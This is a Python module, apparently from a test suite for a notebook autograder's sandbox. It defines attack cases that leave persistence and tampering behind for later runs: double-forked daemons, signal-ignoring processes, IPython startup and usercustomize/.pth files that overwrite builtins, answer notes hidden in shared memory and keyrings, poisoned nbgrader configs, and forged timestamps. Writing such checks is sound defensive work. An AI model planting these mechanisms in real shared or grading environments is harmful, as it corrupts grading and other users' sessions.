"""Staying: processes, files, memory and start-up code left for those who come after."""

from __future__ import annotations

import os
from pathlib import Path

from attacks.attack import EARNED, FLAGGED, UNGRADED, WATCHED, Attack, Places
from attacks.reading import LOOK, TRIED


def _leaves(name: str, does: str, cell: str, *, may: frozenset[str] = EARNED) -> Attack:
    return Attack(name, does, may, right=True, tried=True, first=cell + TRIED)


def _stamp(name: str, does: str, content: bytes) -> Attack:
    """It hands in its own `timestamp.txt`."""

    def write(folder: Path, places: Places) -> None:
        del places
        (folder / "timestamp.txt").write_bytes(content)

    return Attack(name, does, EARNED | {UNGRADED}, right=True, files=write)


def _handed_in_startup(folder: Path, places: Places) -> None:
    del places
    startup = folder / ".ipython" / "profile_default" / "startup"
    startup.mkdir(parents=True)
    (startup / "00.py").write_text("import builtins\nbuiltins.abs = lambda number: 0.0\n")


_DAEMON = """import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        with open("/proc/self/comm", "w") as name:
            name.write("@MARK@")
        while True:
            time.sleep(0.2)
    os._exit(0)"""

ATTACKS = (
    _leaves("leaves-a-daemon", "forks twice, so that nobody waits for it", _DAEMON),
    _leaves(
        "leaves-a-program",
        "starts a program in a session of its own",
        'import subprocess\nsubprocess.Popen(["bash", "-c", "exec -a @MARK@ sleep 3000"], start_new_session=True)',
    ),
    _leaves(
        "leaves-a-program-that-ignores-signals",
        "starts a program that no polite signal ends",
        "import subprocess\nsubprocess.Popen(['nohup', 'bash', '-c', \"trap '' HUP TERM INT; exec -a @MARK@ sleep 3000\"], "
        "start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
    ),
    _leaves(
        "sleeps-at-exit",
        "registers a function that keeps the process from ending",
        "import atexit, time\natexit.register(time.sleep, 100000)",
    ),
    _leaves(
        "writes-at-exit",
        "registers a function that writes into the classroom at the end",
        "import atexit\nfrom pathlib import Path\natexit.register(lambda: Path('@OUTSIDE@/@MARK@').write_text('late'))",
    ),
    _leaves(
        "leaves-ipython-startup-code",
        "writes start-up files for the kernels that come after",
        """import os
from pathlib import Path
for home in (os.path.expanduser("~"), "@HOME@", "/root"):
    try:
        folder = Path(home, ".ipython/profile_default/startup")
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00.py").write_text("import builtins; builtins.abs = lambda number: 0.0")
    except OSError:
        pass
try:
    Path(get_ipython().profile_dir.startup_dir, "00.py").write_text("import builtins; builtins.abs = None")
except (OSError, AttributeError):
    pass""",
    ),
    _leaves(
        "leaves-usercustomize",
        "writes modules that every Python of the user imports at its start",
        """import os, site
from pathlib import Path
for place in {site.getusersitepackages(), os.path.expanduser("~/.local/lib/python3.11/site-packages")}:
    try:
        Path(place).mkdir(parents=True, exist_ok=True)
        Path(place, "usercustomize.py").write_text("import builtins; builtins.abs = lambda number: 0.0")
        Path(place, "evil.pth").write_text("import builtins; builtins.abs = lambda number: 0.0")
    except OSError:
        pass""",
    ),
    _leaves(
        "leaves-notes-for-a-friend",
        "leaves right answers where the next submission may find them",
        """import ctypes
from pathlib import Path
for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/dev/mqueue", "..", "/home"):
    try:
        Path(place, "note-for-a-friend").write_text("def mean(numbers): return sum(numbers) / len(numbers)")
    except OSError:
        pass
libc = ctypes.CDLL(None)
libc.shmget(0x6E6F7465, 4096, 0o1666)
# add_key(2) into the keyrings of the user and of the session, for as long as this run takes.
for ring in (-4, -3):
    key = libc.syscall(248, b"user", b"note-for-a-friend", b"3.0", 3, ring)
    libc.syscall(250, 15, key, 900)""",
        may=WATCHED,
    ),
    Attack(
        "looks-for-notes-of-a-friend",
        "looks where an earlier submission left right answers",
        EARNED | {FLAGGED},
        right=True,
        tried=True,
        first=LOOK
        + """import ctypes
from pathlib import Path
for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/dev/mqueue", "..", "/home"):
    look(lambda: Path(place, "note-for-a-friend").read_text() and "SUCCEEDED")
if ctypes.CDLL(None).shmget(0x6E6F7465, 4096, 0o666) != -1:
    print("SUCCEEDED: shared memory")
# request_key(2)
if ctypes.CDLL(None).syscall(249, b"user", b"note-for-a-friend", None, 0) > 0:
    print("SUCCEEDED: a key")"""
        + TRIED,
    ),
    _leaves(
        "spoils-what-is-loaded",
        "breaks loaded libraries, for whoever shares their memory",
        """import json, os
os.environ["PATH"] = "/nowhere"
json.dumps = json.loads = None
os.umask(0o777)""",
    ),
    Attack(
        "hands-in-ipython-startup-code",
        "hands in a profile for IPython beside its notebook",
        WATCHED,
        right=True,
        files=_handed_in_startup,
    ),
    Attack(
        "hands-in-a-configuration",
        "hands in configurations of nbgrader and Jupyter, and a gradebook",
        WATCHED,
        right=True,
        files=lambda folder, places: [  # type: ignore[arg-type,return-value]
            (folder / name).write_text(f"open({str(places.outside / places.mark)!r}, 'w')\n")
            for name in (
                "nbgrader_config.py",
                "jupyter_config.py",
                "jupyter_nbconvert_config.py",
                "gradebook.db",
            )
        ],
    ),
    _stamp("forges-a-time-that-is-none", "hands in a timestamp that is no time", b"never\n"),
    _stamp("forges-a-time-of-bytes", "hands in a timestamp that is no text", os.urandom(64)),
    _stamp("forges-a-long-time", "hands in a timestamp of 5 MB", b"2026-01-01 10:00:00 UTC" * 220_000),
    _stamp(
        "forges-an-impossible-time",
        "hands in a timestamp beyond all calendars",
        b"99999-99-99 99:99:99 UTC\n",
    ),
)
